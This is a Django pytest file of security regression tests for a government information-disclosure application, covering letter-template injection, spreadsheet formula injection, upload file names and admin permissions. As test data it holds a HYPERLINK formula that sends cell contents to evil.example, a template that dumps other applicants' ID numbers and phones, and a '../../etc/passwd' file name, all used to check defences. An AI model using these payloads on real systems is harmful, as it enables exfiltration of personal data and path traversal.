"""Regression tests of the security probe (issue 11): letter templates, exports, uploads, the admin."""

from __future__ import annotations

import importlib
import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import RequestFactory
from django.urls import reverse

from gongkai.applications import actions, letters, services
from gongkai.applications.ledger import export_xlsx
from gongkai.applications.models import Appeal, CaseFile, FileKind, LetterKind, LetterTemplate
from gongkai.audit.models import Event
from gongkai.common.spreadsheets import safe_cell, unquote_cell
from gongkai.common.tabular import read_rows
from gongkai.testing.helpers import PASSWORD, in_person

pytestmark = pytest.mark.django_db

LEAKING_TEMPLATE = (
    "{% for ag in agency.parent.children.all %}{% for c in ag.applications.all %}"
    "{{ c.id_number }}{{ c.phone }}{% endfor %}{% endfor %}"
)


# ---------------------------------------------------------------------------------------------
# Finding 1: letter templates reach any record
# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        LEAKING_TEMPLATE,
        "{{ a.id_number }}",
        "{{ agency.parent.name }}",
        "{{ receipt_number|upper }}",
        '{% include "applications/letters/_remedies.txt" %}',
        "{% load static %}",
        "{{ id_number }}",
        "{% if receipt_number %}未结束",
    ],
)
def test_finding_01_letter_template_cannot_reach_other_records(county, seeded, body) -> None:
    with pytest.raises(ValidationError) as refused:
        actions.letter_template_save(agency=county.dept_a, actor=county.head_a, kind=LetterKind.RECEIPT, body=body)
    message = "；".join(refused.value.messages)
    assert "模板语法有误" in message and "{{ receipt_number }}" in message
    assert not LetterTemplate.objects.exists()


def test_finding_01_stored_template_gets_plain_strings_only(county, seeded) -> None:
    # Written to the table directly (bypassing the check): the letter falls back to the default.
    other = in_person(county, services.today(), applicant_name="王五", phone="13912345678")
    LetterTemplate.objects.create(agency=county.dept_a, kind=LetterKind.RECEIPT, body=LEAKING_TEMPLATE)
    a = in_person(county, services.today())
    body = a.letters.get().body
    assert other.phone not in body and "本机关于" in body and a.receipt_number in body


def test_finding_01_applicant_text_is_not_template_syntax(county, seeded) -> None:
    actions.letter_template_save(
        agency=county.dept_a, actor=county.head_a, kind=LetterKind.RECEIPT, body="内容：{{ description }}"
    )
    a = in_person(county, services.today(), description="{{ receipt_number }}{% if x %}")
    assert a.letters.get().body == "内容：{{ receipt_number }}{% if x %}"


def test_finding_01_if_blocks_and_placeholders_render(county, seeded) -> None:
    actions.letter_template_save(
        agency=county.dept_a,
        actor=county.head_a,
        kind=LetterKind.RECEIPT,
        body="{{ receipt_number }}{% if document_number %}（{{ document_number }}）{% else %}（无文号）{% endif %}"
        "，{{ agency_name }}",
    )
    a = in_person(county, services.today())
    assert a.letters.get().body == f"{a.receipt_number}（无文号），{county.dept_a.name}"


def test_finding_01_template_page_lists_placeholders(client, county, seeded) -> None:
    client.login(username="head_a", password=PASSWORD)
    url = reverse("applications:letter_templates")
    page = client.get(url + "?kind=correction").content.decode()
    assert "{{ receipt_number }}" in page and "{{ items }}" in page and "补正事项" in page
    refused = client.post(url, {"agency": county.dept_a.pk, "kind": "receipt", "body": LEAKING_TEMPLATE})
    assert "可用的占位符" in refused.content.decode() and not LetterTemplate.objects.exists()


OLD_RECEIPT = (
    "本机关于{{ received }}收到您提出的政府信息公开申请（受理编号：{{ a.receipt_number }}），"
    "申请内容为：“{{ a.description|truncatechars:120 }}”{% if a.document_number %}（文号：{{ a.document_number }}）"
    "{% endif %}。\n\n{{ a.received_basis }}。联系电话：{{ agency.phone }}"
)


def test_finding_01_migration_rewrites_or_resets_stored_templates(county, seeded) -> None:
    migration = importlib.import_module("gongkai.applications.migrations.0003_letter_template_placeholders")
    assert migration.rewrite(OLD_RECEIPT) == (
        "本机关于{{ received }}收到您提出的政府信息公开申请（受理编号：{{ receipt_number }}），"
        "申请内容为：“{{ description_short }}”{% if document_number %}（文号：{{ document_number }}）"
        "{% endif %}。\n\n{{ received_basis }}。联系电话：{{ agency_phone }}"
    )
    old_answer = '答复{{ a.description|truncatechars:200 }}\n\n{% include "applications/letters/_remedies.txt" %}'
    assert migration.rewrite(old_answer) == "答复{{ description }}\n\n{{ remedies }}"

    from django.apps import apps

    kept = LetterTemplate.objects.create(agency=county.dept_a, kind=LetterKind.RECEIPT, body=OLD_RECEIPT)
    LetterTemplate.objects.create(agency=county.dept_a, kind=LetterKind.FEE, body=LEAKING_TEMPLATE)
    migration.migrate_templates(apps, None)
    kept.refresh_from_db()
    assert "{{ receipt_number }}" in kept.body
    assert not LetterTemplate.objects.filter(kind=LetterKind.FEE).exists()
    note = Event.objects.get(action="application.letter_template", agency=county.dept_a)
    assert note.before["body"] == LEAKING_TEMPLATE and "恢复为系统默认模板" in note.reason


def test_finding_01_default_templates_are_valid() -> None:
    from gongkai.applications.models import OUTCOME_ROWS

    for kind in LetterKind.values:
        outcomes = [key for key, _ in OUTCOME_ROWS] if kind == LetterKind.ANSWER else [""]
        for outcome in outcomes:
            letters.validate_template(kind, letters.default_source(kind, outcome))


# ---------------------------------------------------------------------------------------------
# Finding 5: spreadsheet formula injection
# ---------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def test_finding_05_ledger_export_writes_applicant_text_as_text(county, seeded) -> None:
    from openpyxl import load_workbook

    a = in_person(county, services.today(), description=FORMULA, applicant_name="@SUM(1+1)")
    sheet = load_workbook(io.BytesIO(export_xlsx(county.dept_a, a.received_on.year))).active
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == a.receipt_number)
    cells = {cell.value: cell.data_type for cell in row}
    assert cells["'" + FORMULA] == "s" and cells["'@SUM(1+1)"] == "s"
    assert not any(cell.data_type == "f" for r in sheet.iter_rows() for cell in r)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_finding_05_safe_cell_quotes_formula_starts_and_imports_read_them_back(text) -> None:
    assert safe_cell(text) == "'" + text
    assert unquote_cell(safe_cell(text)) == text
    assert safe_cell("普通文字") == "普通文字" and safe_cell(5) == 5 and safe_cell(None) is None
    rows = list(read_rows(("a,b\n" + f'"{safe_cell(text)}",x\n').encode(), "x.csv"))
    assert rows[1][1][0] == text.strip()


def test_finding_05_disclosure_catalogue_xlsx_escapes_titles(county) -> None:
    from types import SimpleNamespace

    from openpyxl import load_workbook

    from gongkai.disclosure.views import _catalogue_xlsx

    item = SimpleNamespace(
        index_number="X-1",
        title=FORMULA,
        summary="-2+3",
        formed_on=None,
        published_on=None,
        category=SimpleNamespace(name="其他"),
        doc_number="",
    )
    response = _catalogue_xlsx(county.dept_a, SimpleNamespace(iterator=lambda: iter([item])))
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    assert sheet["B2"].value == "'" + FORMULA and sheet["B2"].data_type == "s" and sheet["C2"].value == "'-2+3"


# ---------------------------------------------------------------------------------------------
# Finding 8: long Chinese file names
# ---------------------------------------------------------------------------------------------


def test_finding_08_long_chinese_file_name_is_kept_as_data(client, county, seeded, settings, tmp_path) -> None:
    from django.core.cache import cache

    from gongkai.applications.tests.test_views import _form

    settings.MEDIA_ROOT = str(tmp_path)
    cache.clear()
    long_name = "关于某某项目环境影响评价报告及其批复文件的政府信息公开申请所附身份证明材料" * 3 + ".pdf"
    assert len(long_name.encode()) > 255
    upload = SimpleUploadedFile(long_name, b"%PDF-1.4 test", content_type="application/pdf")
    response = client.post(reverse("applications:apply"), _form(client, county.dept_a, files=upload))
    cache.clear()
    assert response.status_code == 302
    stored = CaseFile.objects.get()
    assert stored.name == long_name[:200]
    assert len(stored.file.name.encode()) <= 100 and stored.file.name.endswith(".pdf")
    assert stored.file.open("rb").read() == b"%PDF-1.4 test"


def test_finding_08_stored_names_never_come_from_the_uploader(county, seeded, settings, tmp_path) -> None:
    settings.MEDIA_ROOT = str(tmp_path)
    a = in_person(county, services.today())
    names = ["../../etc/passwd", "a" * 300, "报告.PDF", "无后缀", "x.长后缀名称"]
    stored = actions.attach(
        application=a,
        actor=county.clerk_a,
        files=[SimpleUploadedFile(name, b"data") for name in names],
        kind=FileKind.INTERNAL,
    )
    for item in stored:
        assert item.file.name.startswith(f"applications/{a.pk}/") and ".." not in item.file.name
        assert len(item.file.name.encode()) <= 100
    assert [item.name for item in stored][2:] == ["报告.PDF", "无后缀", "x.长后缀名称"]
    assert stored[2].file.name.endswith(".pdf") and "." not in stored[3].file.name.rsplit("/", 1)[1]


# ---------------------------------------------------------------------------------------------
# Finding 15: the Django admin writes without the actions
# ---------------------------------------------------------------------------------------------


def test_finding_15_admin_cannot_delete_appeals_or_edit_letter_templates(client, county, seeded) -> None:
    a = in_person(county, services.today())
    appeal = Appeal.objects.create(application=a, kind="review", filed_on=a.received_on, body="测试县人民政府")
    template = LetterTemplate.objects.create(agency=county.dept_a, kind=LetterKind.RECEIPT, body="{{ receipt_number }}")
    client.force_login(county.admin)
    assert client.get(f"/admin/applications/appeal/{appeal.pk}/delete/").status_code == 403
    assert client.post(f"/admin/applications/appeal/{appeal.pk}/delete/", {"post": "yes"}).status_code == 403
    assert client.get("/admin/applications/appeal/add/").status_code == 403
    assert client.get("/admin/applications/lettertemplate/add/").status_code == 403
    changed = client.post(
        f"/admin/applications/lettertemplate/{template.pk}/change/",
        {"agency": county.dept_a.pk, "kind": "receipt", "outcome": "", "body": LEAKING_TEMPLATE},
    )
    assert changed.status_code == 403
    assert client.post(f"/admin/applications/lettertemplate/{template.pk}/delete/", {"post": "yes"}).status_code == 403
    assert Appeal.objects.filter(pk=appeal.pk).exists()
    template.refresh_from_db()
    assert template.body == "{{ receipt_number }}"


def test_finding_15_every_admin_write_is_refused_or_audited(county) -> None:
    """Each registered model admin either refuses add/change/delete or routes them through an action."""
    from django.contrib import admin

    request = RequestFactory().get("/admin/")
    request.user = county.admin
    # Admins whose saves are replaced by audited actions (tested in their apps).
    routed = {"Agency", "CalendarYear", "User", "Area", "ScoringSetting", "Category"}
    apps = {"applications", "reports", "audit", "disclosure", "accounts", "agencies", "catalogue"}
    for model, model_admin in admin.site._registry.items():
        name = model.__name__
        if model._meta.app_label not in apps:
            continue
        if name in routed:
            continue
        assert not model_admin.has_add_permission(request), name
        assert not model_admin.has_change_permission(request), name
        assert not model_admin.has_delete_permission(request), name


def test_finding_15_user_admin_audits_user_and_role_changes(client, county) -> None:
    from gongkai.accounts.models import Membership

    client.force_login(county.admin)
    user = county.clerk_b
    membership = Membership.objects.get(user=user)
    data = {
        "username": user.username,
        "full_name": "新名字",
        "email": "",
        "phone": "",
        "is_active": "on",
        "memberships-TOTAL_FORMS": "2",
        "memberships-INITIAL_FORMS": "1",
        "memberships-MIN_NUM_FORMS": "0",
        "memberships-MAX_NUM_FORMS": "1000",
        "memberships-0-id": membership.pk,
        "memberships-0-user": user.pk,
        "memberships-0-agency": membership.agency_id,
        "memberships-0-role": membership.role,
        "memberships-0-DELETE": "on",
        "memberships-1-user": user.pk,
        "memberships-1-agency": county.dept_a.pk,
        "memberships-1-role": "reviewer",
    }
    response = client.post(f"/admin/accounts/user/{user.pk}/change/", data)
    assert response.status_code == 302, response.content.decode()[:3000]
    user.refresh_from_db()
    assert user.full_name == "新名字"
    assert list(Membership.objects.filter(user=user).values_list("agency", "role")) == [(county.dept_a.pk, "reviewer")]
    actions_logged = set(Event.objects.filter(target_id=str(user.pk)).values_list("action", flat=True))
    assert {"user.update", "membership.revoke", "membership.grant"} <= actions_logged
